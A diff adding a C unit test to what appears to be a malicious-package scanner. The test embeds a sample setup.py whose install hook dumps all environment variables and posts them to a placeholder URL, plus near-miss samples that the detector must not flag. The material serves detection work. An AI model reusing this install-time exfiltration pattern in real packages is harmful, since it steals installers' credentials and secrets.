@@ -268,6 +268,39 @@ static void test_rules_behave__dropper_chain(void **state)
 /* ---- proc.* ------------------------------------------------------------------
  */
 
+/* Taint kept on self: __init__ collects, run() sends (C1 across methods). */
+static void test_rules_behave__self_attribute_taint(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		scan_sev("demo-1.0/setup.py",
+			 "import json, os, urllib.request\n"
+			 "from setuptools.command.install import install\n"
+			 "class Hook(install):\n"
+			 "    def __init__(self, dist):\n"
+			 "        super().__init__(dist)\n"
+			 "        self.e = json.dumps(os.environ.copy())\n"
+			 "    def run(self):\n"
+			 "        urllib.request.urlopen(URL, data=self.e)\n"
+			 "        install.run(self)\n",
+			 LG_RULE_NET_EXFIL),
+		LG_SEV_CRITICAL);
+	/* near misses: another class's attribute, a method call */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/a.py",
+			 "import os, requests\n"
+			 "class A:\n"
+			 "    def __init__(self):\n"
+			 "        self.env = dict(os.environ)\n"
+			 "class B:\n"
+			 "    def send(self):\n"
+			 "        requests.post(URL, data=self.env)\n"
+			 "    def go(self):\n"
+			 "        requests.post(URL, data=self.env())\n",
+			 LG_RULE_NET_EXFIL),
+		-1);
+}
+
 /* ---- proc.import-process ------------------------------------------------- */
 
 static void test_rules_behave__import_process(void **state)
@@ -1027,6 +1060,7 @@ int test_rules_behave_group(void)
 		cmocka_unit_test(test_rules_behave__exfil_near_misses),
 		cmocka_unit_test(test_rules_behave__remote_code),
 		cmocka_unit_test(test_rules_behave__download_exec),
+		cmocka_unit_test(test_rules_behave__self_attribute_taint),
 		cmocka_unit_test(test_rules_behave__import_process),
 		cmocka_unit_test(test_rules_behave__import_process_near_misses),
 		cmocka_unit_test(test_rules_behave__download_script),
